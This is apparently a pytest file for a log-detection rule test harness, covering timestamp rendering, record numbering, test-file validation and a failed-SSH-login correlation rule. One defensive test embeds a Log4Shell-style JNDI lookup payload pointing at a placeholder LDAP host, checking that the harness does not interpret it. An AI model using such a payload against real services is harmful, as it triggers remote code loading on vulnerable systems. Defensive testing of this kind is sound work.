"""Examples of rules become raw records with times, as a shipper would send them."""

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from dekhang.pipeline.rulebook import load_rules
from dekhang.pipeline.ruletests import Case, TestFileError, load_test, load_tests, run_test

MOMENT = datetime(2019, 12, 9, 2, 0, 5, 250_000, tzinfo=UTC)


def test_every_form_of_time_is_filled_in() -> None:
    forms = ("iso", "syslog", "clf", "epoch", "epoch_ms")
    case = Case("c", "linux", tuple(f"a ${{time:{form}}} b" for form in forms))
    assert [raw.decode() for _, raw in case.render(MOMENT)] == [
        "a 2019-12-09T02:00:05.250Z b",
        "a Dec  9 02:00:05 b",
        "a 09/Dec/2019:02:00:05 +0000 b",
        "a 1575856805 b",
        "a 1575856805250 b",
    ]


def test_repeated_records_move_in_event_time_and_are_numbered() -> None:
    case = Case("c", "linux", ("${n} x", "${n} y"), repeat=2, step_seconds=90)
    rendered = case.render(MOMENT)
    assert [raw for _, raw in rendered] == [b"1 x", b"2 y", b"3 x", b"4 y"]
    assert [(moment - MOMENT).total_seconds() for moment, _ in rendered] == [0, 0, 90, 90]


def test_a_mapping_becomes_json_with_numbers_where_only_a_number_stands() -> None:
    case = Case("c", "windows", ({"n": "${n}", "at": ["${time:epoch}"], "t": "x${n}", "k": None},))
    ((_, raw),) = case.render(MOMENT)
    assert json.loads(raw) == {"n": 1, "at": [1575856805], "t": "x1", "k": None}


def test_what_attackers_write_is_not_taken_for_our_places() -> None:
    case = Case("c", "web", ("GET /${jndi:ldap://192.0.2.1/a} ${env:X}",))
    assert case.render(MOMENT)[0][1] == b"GET /${jndi:ldap://192.0.2.1/a} ${env:X}"


def test_tests_are_found_beside_their_rules(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/a.test.yml").write_text("match: [{name: n, source: web, records: [x]}]")
    (one,) = load_tests(tmp_path)
    assert one.rule_path == tmp_path / "sub/a.yml"
    assert one.match == (Case("n", "web", ("x",)),)


@pytest.mark.parametrize(
    ("text", "line", "word"),
    [
        ("match: [", 2, "YAML"),
        ("[]", 1, "match"),
        ("no_match: []", 1, "match"),
        ("match:\n  - {name: n, source: web, records: []}", 2, "records"),
        ("match:\n  - {name: n, source: web, records: [7]}", 2, "bản ghi"),
        ("match:\n\n  - {name: n, source: web, records: [x], repeat: 99999}", 3, "repeat"),
        ("match:\n  - {name: n, source: web, records: [x], step_seconds: -1}", 2, "step_seconds"),
        ("match:\n  - {source: web, records: [x]}", 2, "name"),
        ('match:\n  - {name: n, source: web, records: [{a: "${time:now}"}]}', 2, "time:now"),
    ],
)
def test_a_test_file_with_a_fault_is_named_with_its_line(tmp_path: Path, text: str, line: int, word: str) -> None:
    path = tmp_path / "a.test.yml"
    path.write_text(text)
    with pytest.raises(TestFileError) as caught:
        load_test(path)
    assert caught.value.line == line and word in caught.value.reason


def test_a_correlation_that_waits_for_the_end_of_its_window_can_be_tested(tmp_path: Path) -> None:
    (tmp_path / "few.yml").write_text(
        "title: failed\nid: 3f2f1f0a-0000-4000-8000-00000000002a\nname: failed\nlogsource: {product: linux}\n"
        "detection: {bad: {action: login_failed}, condition: bad}\n---\n"
        "title: few\nid: 3f2f1f0a-0000-4000-8000-00000000002b\ncorrelation:\n  type: event_count\n  rules: [failed]\n"
        "  group-by: [src_ip]\n  timespan: 5m\n  condition: {lt: 3}\n"
    )
    line = '"${time:syslog} may-chu sshd[7]: Failed password for root from 192.0.2.7 port 4 ssh2"'
    (tmp_path / "few.test.yml").write_text(
        f"match:\n  - {{name: hai lần, source: linux, records: [{line}], repeat: 2}}\n"
        f"  - {{name: ba lần, source: linux, records: [{line}], repeat: 3}}\n"
        f"no_match:\n  - {{name: bốn lần, source: linux, records: [{line}], repeat: 4}}\n"
    )
    failures = run_test(load_test(tmp_path / "few.test.yml"), load_rules([tmp_path], cache=None).rules)
    assert [(failure.line, failure.case) for failure in failures] == [(3, "ba lần")]
